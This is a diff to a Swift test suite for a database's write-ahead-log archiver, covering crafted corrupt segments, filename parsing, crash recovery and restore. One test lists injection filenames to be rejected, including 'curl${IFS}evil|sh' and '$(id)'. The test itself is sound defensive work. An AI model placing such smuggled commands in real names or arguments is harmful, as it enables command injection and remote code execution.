@@ -127,6 +127,47 @@ import Testing
     #expect(lsns.count == 9 && lsns.first == 1 && segment.manifest == manifest)
   }
 
+  /// A manifest whose lengths, with valid checksums, would overflow a sum is damage, not a trap.
+  @Test func aCraftedSegmentWithImpossibleLengthsIsDamageNotACrash() throws {
+    var bytes = FileBytes.read(Self.vectorURL.path)
+    let manifestOffset = 517
+    let huge = UInt64.max - 27
+    // The frame's length, and the manifest's stored length (after the level, kind and offset).
+    withUnsafeBytes(of: huge.littleEndian) { bytes.replaceSubrange(20..<28, with: $0) }
+    let lengthField = manifestOffset + 113 - 20
+    withUnsafeBytes(of: huge.littleEndian) { bytes.replaceSubrange(lengthField..<lengthField + 8, with: $0) }
+    let checksum = CRC32C.checksum(Array(bytes[manifestOffset..<manifestOffset + 113]))
+    withUnsafeBytes(of: checksum.littleEndian) {
+      bytes.replaceSubrange(manifestOffset + 117..<manifestOffset + 121, with: $0)
+    }
+    let directory = TemporaryDirectory()
+    FileBytes.write(bytes, to: directory.file("crafted.sdsegment"))
+    #expect(SegmentManifest.decode(Array(bytes[manifestOffset..<manifestOffset + 113]))?.part.length == huge)
+    #expect {
+      try ArchiveSegment(path: directory.file("crafted.sdsegment"))
+    } throws: { error in
+      (error as? SoftadastraError)?.kind == .corrupt
+    }
+  }
+
+  @Test func namesParseOnlyWhatTheArchiverWrites() {
+    #expect(
+      ArchiveNames.parse("node-a.00000000000000000005.20261201T170514Z.base.sdbackup")
+        == .base(nodeID: "node-a", lastLSN: 5, time: "20261201T170514Z"))
+    #expect(
+      ArchiveNames.parse("my.node.00000000000000000006-00000000000000000009.sdsegment")
+        == .segment(nodeID: "my.node", firstLSN: 6, lastLSN: 9))
+    for name in [
+      "n.00000000000000000001.z;curl${IFS}evil|sh.base.sdbackup",
+      "n.00000000000000000001.20261201T170514Z;x.base.sdbackup",
+      "n.1.20261201T170514Z.base.sdbackup", "n.00000000000000000009-00000000000000000006.sdsegment",
+      ".hidden.00000000000000000001-00000000000000000001.sdsegment", "n.00000000000000000001.sdbackup",
+      "n$(id).00000000000000000001-00000000000000000001.sdsegment",
+    ] {
+      #expect(ArchiveNames.parse(name) == nil, "\(name)")
+    }
+  }
+
   @Test func pointInTimeRestoresFromChainsEqualAnIndependentModel() throws {
     let node = TemporaryDirectory()
     let wal = node.file("node-a.wal")
@@ -139,19 +180,19 @@ import Testing
       if round == 2 { try model.client.checkpoint() }
       shipped += try archiver!.ship()
       if round == 3 {
-        // A new base is due: a second chain starts where the first one ends.
+        // A new base is due after every look from now on: a new chain starts after each.
         archiver = nil
         archiver = try Self.archiver(wal, to: destination.path, baseEveryBytes: 1)
       }
     }
     try model.client.close()
     let last = model.log.last!.lsn
-    #expect(shipped.filter { $0.kind == .base }.count == 2)
+    #expect(shipped.filter { $0.kind == .base }.count == 3)
     #expect(shipped.filter { $0.kind == .segment }.count >= 8, "small segments: several per look")
     #expect(shipped.last!.lastLSN == last)
     let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
     #expect(survey.isSound, "\(survey.problems.map(\.message))")
-    #expect(survey.chains.count == 2 && survey.chains.last!.lastLSN == last)
+    #expect(survey.chains.count == 3 && survey.chains.last!.lastLSN == last)
 
     var times: [UInt64: UInt64] = [:]
     for path in [NodeFiles(walPath: wal).segments().map(\.path), [wal]].joined() {
@@ -250,6 +291,12 @@ import Testing
     let survey = try ArchiveSurvey.run(location: ArchiveDirectory(destination.path))
     #expect(survey.problems.contains { $0.message.contains("missing LSN") })
     #expect(Self.restoreFails(destination.path, into: targetWAL, before: before))
+    // A time the missing records reach, before the next segment's first: refused too.
+    let missingEnd = try ArchiveSegment(path: destination.file(segments[0])).manifest.lastRecordMilliseconds
+    #expect(throws: SoftadastraError.self) {
+      try ArchiveChain(
+        location: ArchiveDirectory(destination.path), nodeID: nil, target: ReplayTarget(milliseconds: missingEnd + 1))
+    }
     FileBytes.write(saved, to: middle)
     // Renamed: a copy under another range is not what its name says.
     guard case .segment(_, let first, let last) = ArchiveNames.parse(segments[1]) else {
@@ -296,20 +343,25 @@ import Testing
     let name = shipped[0].name
     let bytes = FileBytes.read(destination.file(name))
     let after = try #require(try archiver.state())
-    // The crash: the segment was recorded as pending, perhaps stored, not yet acknowledged.
+    // The crash: the segment was recorded as pending, perhaps stored, not yet acknowledged; its
+    // file beside the node kept (the usual case) or lost (then it is written again from the log).
     var crashed = before
     crashed.pending = ArchiveState.Pending(
-      firstLSN: before.shippedLSN + 1, lastLSN: after.shippedLSN,
+      firstLSN: before.shippedLSN + 1, lastLSN: after.shippedLSN, lastChecksum: after.shippedChecksum,
       createdMilliseconds: try ArchiveSegment(path: destination.file(name)).manifest.createdMilliseconds, level: 6)
-    for stored in [true, false] {
+    let pendingFile = archived.node.file("node-a.archive-segment")
+    #expect(!FileManager.default.fileExists(atPath: pendingFile), "removed once stored")
+    for (stored, kept) in [(true, true), (false, true), (true, false), (false, false)] {
       try crashed.save(walPath: wal)
+      if kept { FileBytes.write(bytes, to: pendingFile) }
       if !stored { try FileManager.default.removeItem(atPath: destination.file(name)) }
       for _ in 0..<2 { try model.step() }
       let again = try archiver.ship()
-      #expect(again.first?.name == name, "stored before the crash: \(stored)")
+      #expect(again.first?.name == name, "stored before the crash: \(stored), file kept: \(kept)")
       #expect(FileBytes.read(destination.file(name)) == bytes)
       #expect(again.count == 2, "then the records after it")
       #expect(try archiver.state()?.pending == nil)
+      #expect(!FileManager.default.fileExists(atPath: pendingFile))
       try FileManager.default.removeItem(atPath: destination.file(again[1].name))
     }
     // A name is never given other bytes.
@@ -364,14 +416,21 @@ import Testing
     for _ in 0..<10 { try model.step() }
     _ = try archiver.ship()
     try model.client.close()
-    _ = try Restore.run(archive: try BackupArchive(path: backup), walPath: wal, nodeID: "node-a", force: true)
+    let restored = try Restore.run(
+      archive: try BackupArchive(path: backup), walPath: wal, nodeID: "node-a", force: true)
+    // The restore set the archiving state aside with the old files (it follows the old history);
+    // put back by hand, the archiver finds that the node's history moved on.
+    let statePath = ArchiveState.path(walPath: wal)
+    let asideState = try #require(restored.keptAside.first { $0.hasPrefix(statePath + ".pre-restore-") })
+    #expect(!FileManager.default.fileExists(atPath: statePath))
+    try FileManager.default.copyItem(atPath: asideState, toPath: statePath)
     model = Model(try Self.client(wal))
     model.random = SplitMix64(seed: 1234)
     model.log = early
     for _ in 0..<5 { try model.step() }
     let shipped = try archiver.ship()
     #expect(shipped.first?.kind == .base)
-    #expect(reasons.count == 1)
+    #expect(reasons.count == 1, "\(reasons)")
     let (result, entries) = try Self.restore(destination.path)
     #expect(result.lsn == model.log.last!.lsn)
     #expect(entries == model.state(upTo: model.log.last!.lsn))
